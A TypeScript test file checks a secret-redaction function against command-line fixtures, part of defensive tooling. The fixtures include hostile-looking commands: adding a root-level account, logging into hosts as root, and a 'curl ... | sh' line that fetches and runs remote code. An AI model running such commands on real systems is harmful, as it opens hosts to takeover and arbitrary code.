import assert from "node:assert/strict";
import { test } from "node:test";
import { REDACTED, redactText } from "../../src/bytes/secrets.ts";

const PHRASE = `${"abandon ".repeat(11)}about`;
/** The private key 1 and the extended key of the first test vector of BIP 32: everybody has them. */
const WIF = "KwDiBf89QgGbjEhKnhXJuH7LrciVrZi3qYjgd9M7rFU73sVHnoWn";
const XPRV = [
  "xprv9s21ZrQH143K3QTDL4LXw2F7HEK3wJUD2nW2nRk4stbPy6cq3jPPq",
  "jiChkVvvNKmPGJxWUtg6LnF5kejMRNNU3TGtRBeJgk33yuGBxrMPHi",
].join("");

/** Each stands with "§" where the secret is. */
const HIDDEN: readonly string[] = [
  "mysql -u root -p§ db",
  "mysqldump '-p§' db",
  "sshpass -p § ssh root@192.0.2.1",
  "sshpass -p§ ssh root@192.0.2.1",
  '["sshpass","-p","§","ssh"]',
  "curl -fsSu bob:§ http://203.0.113.9/x",
  "curl --proxy-user 'bob:§' http://203.0.113.9/x",
  "redis-cli -h 192.0.2.1 -a § info",
  "docker login -u bob -p §",
  "useradd -o -u 0 -p § eve",
  "zip -r -P § x.zip /etc",
  "smbclient //192.0.2.1/c$ -U eve%§",
  "net user eve § /add",
  "htpasswd -cb /etc/users eve §",
  "bitcoin-cli walletpassphrase § 600",
  "openssl enc -pass pass:§ -in x",
  "echo § | sudo -S id",
  "echo -n '§' | sudo passwd --stdin bob",
  "echo bob:§ | chpasswd",
  "aws configure set aws_secret_access_key §",
  "export FOO_TOKEN=§",
  "export MYSQL_PWD=§",
  'export PASSWORD="§"; id',
  "psql postgres://:§@192.0.2.1/x",
  "curl -H 'Authorization: token §' http://203.0.113.9/",
];

test("a password is known by its name or by its place in a command line", () => {
  for (const form of HIDDEN) {
    const secret =
      form.includes('"§"') && form.startsWith("export") ? "nobodys secret" : "nobodys-secret-7f3a";
    assert.equal(redactText(form.replace("§", secret)), form.replace("§", REDACTED));
  }
});

test("keys and phrases are known by their checksum, tokens and hashes by their form", () => {
  for (const secret of [WIF, XPRV, PHRASE, "$6$nobody$nobodyshash/of.nothing", `ghp_${"nobody".repeat(6)}`]) {
    const text = redactText(`load ${secret} and go`);
    assert.ok(!text.includes(secret) && text.includes(REDACTED), text);
    assert.match(text, /^load .{1,20} and go$/);
  }
  const pem = `-----BEGIN RSA PRIVATE KEY-----\\n${"Nobody+0/".repeat(8)}\\n-----END RSA PRIVATE KEY-----`;
  assert.equal(
    redactText(`echo '${pem}' > k; id`),
    `echo '-----BEGIN RSA PRIVATE KEY-----${REDACTED}-----END RSA PRIVATE KEY-----' > k; id`,
  );
});

test("what is no secret stays, and a command does not hide in the place of one", () => {
  for (const text of [
    "docker run -p 8080:80 nginx",
    "curl -u bob http://203.0.113.9/x",
    "mysql -u root -p db",
    "PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id",
    "echo hello | sudo tee /etc/motd",
    "net use z: //192.0.2.1/share",
    `${WIF.slice(0, -1)}X`,
    "pass: x",
  ]) {
    assert.equal(redactText(text), text);
  }
  assert.match(redactText('TOKEN="$(curl http://203.0.113.9/x | sh)"'), /http:\/\/203\.0\.113\.9\/x \| sh/);
});

test("no text takes long", () => {
  for (const part of [
    "curl -u ",
    "echo a:",
    "echo a | sudo -",
    "pass ",
    "://a:",
    "eyJaaaaaaaaaaa.eyJ",
    "abandon ",
  ]) {
    const started = performance.now();
    redactText(part.repeat(Math.ceil(65_536 / part.length)));
    assert.ok(performance.now() - started < 2000, part);
  }
});
